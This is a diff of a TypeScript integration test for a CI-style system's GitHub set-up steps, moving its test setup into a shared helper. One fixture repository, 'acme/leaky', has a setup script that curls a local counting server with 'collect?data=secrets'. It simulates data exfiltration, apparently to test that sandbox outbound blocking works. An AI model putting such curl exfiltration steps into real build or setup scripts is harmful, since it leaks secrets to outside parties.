@@ -1,18 +1,16 @@
 import { execFile } from 'node:child_process';
-import { generateKeyPairSync } from 'node:crypto';
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startLocalStack, type LocalStack } from '../../local/stack.ts';
-import { apiClient } from '../support/api-client.ts';
+import type { LocalStack } from '../../local/stack.ts';
 import { startCountingServer, type CountingServer } from '../support/counting-server.ts';
-import { startGitHttpServer } from '../support/git-http-server.ts';
-import { startGithubApiServer, type GithubApiServer } from '../support/github-api-server.ts';
+import type { GithubApiServer } from '../support/github-api-server.ts';
+import { startGithubAppStack, type GithubAppStack } from '../support/github-app-stack.ts';
 import { labeledPayload, makeBareRepo, sendDelivery, type RepoRef, finishedRun } from '../support/github-fixture.ts';
 import { npmEnv, startNpmRegistry, type NpmRegistry } from '../support/npm-registry.ts';
-import { bash, text, unscripted } from '../support/stack-fixture.ts';
+import { bash, text } from '../support/stack-fixture.ts';
 import { makeTempDir } from '../support/temp-dir.ts';
 
 const SECRET = 'webhook-secret-for-tests';
@@ -51,10 +49,11 @@ describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the
   const npmDir = makeTempDir();
   let stack: LocalStack;
   let gh: GithubApiServer;
-  let git: Awaited<ReturnType<typeof startGitHttpServer>>;
+  let git: GithubAppStack['git'];
+  let close: GithubAppStack['close'] | undefined;
   let registry: NpmRegistry;
   let offList: CountingServer;
-  let api: ReturnType<typeof apiClient>;
+  let api: GithubAppStack['api'];
   let app: ReturnType<typeof makeBareRepo>;
   const repos: Record<string, RepoRef> = {};
 
@@ -68,32 +67,32 @@ describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the
     );
     const lockfile = await lockfileFor(registry, npmDir.dir);
     offList = await startCountingServer();
-    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
-    gh = await startGithubApiServer({ appId: APP_ID, appPublicKey: publicKey, installationId: 88 });
-    git = await startGitHttpServer({ projectRoot: gitRoot.dir, token: (t) => gh.isValidToken(t) });
-    stack = await startLocalStack({
+    ({ stack, gh, git, api, close } = await startGithubAppStack({
       dataDir: tmp.dir,
-      brain: unscripted,
-      writeMetrics: () => undefined,
-      // The operator lets sandboxes reach the loopback registry (STRATUS_PRIVATE_NETWORK_ALLOW) and
-      // makes it the one set-up registry (STRATUS_SETUP_REGISTRIES), as the public ones are by default.
-      settings: { model: {}, turn: {}, api: {}, observability: {}, outbound: { privateNetworkAllow: [registry.host] }, setup: { registries: [registry.host] } },
-      github: {
-        webhookSecret: SECRET,
-        appId: APP_ID,
-        privateKey: privateKey.export({ type: 'pkcs1', format: 'pem' }).toString(),
-        apiUrl: gh.url,
-        commitAuthor: { name: 'Stratus Test', email: 'stratus@example.com' },
+      gitRoot: gitRoot.dir,
+      appId: APP_ID,
+      webhookSecret: SECRET,
+      installationId: 88,
+      stack: {
+        writeMetrics: () => undefined,
+        // The operator lets sandboxes reach the loopback registry (STRATUS_PRIVATE_NETWORK_ALLOW) and
+        // makes it the one set-up registry (STRATUS_SETUP_REGISTRIES), as the public ones are by default.
+        settings: {
+          model: {},
+          turn: {},
+          api: {},
+          observability: {},
+          outbound: { privateNetworkAllow: [registry.host] },
+          setup: { registries: [registry.host] },
+        },
       },
-    });
-    api = apiClient(stack.apiUrl, stack.token);
+    }));
     app = makeBareRepo(gitRoot.dir, 'acme/app', appFiles(registry, lockfile, 'set -e\nnpm ci\n'));
     makeBareRepo(
       gitRoot.dir,
       'acme/leaky',
       appFiles(registry, lockfile, `set -e\nnpm ci\ncurl -sS --fail-with-body http://localhost:${offList.port}/collect?data=secrets\n`),
     );
-    gh.addInstallation(88, 'acme');
     for (const [id, full] of [
       [2_001, 'acme/app'],
       [2_002, 'acme/leaky'],
@@ -102,16 +101,12 @@ describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the
       gh.addIssue(full, 1, { title: 'total() is off by one', body: 'total([2, 3]) gives 6.', user: { login: 'reporter', type: 'User' } });
       repos[full] = { id, fullName: full, cloneUrl: `${git.url}/${full}.git`, installationId: 88 };
     }
-    const admin = apiClient(stack.apiUrl, readFileSync(path.join(tmp.dir, 'admin-token'), 'utf8').trim());
-    expect((await admin.request('POST', '/v1/admin/github/installations', { installationId: 88, tenantId: 'local' })).status).toBe(201);
     gh.permissions.set('maintainer', 'write');
     for (const full of Object.keys(repos)) expect((await api.request('POST', '/v1/github/repositories', { repository: full })).status).toBe(201);
   }, 60_000);
 
   afterAll(async () => {
-    await stack?.stop();
-    await git?.close();
-    await gh?.close();
+    await close?.();
     await registry?.close();
     await offList?.close();
     for (const d of [tmp, gitRoot, npmDir]) d.cleanup();
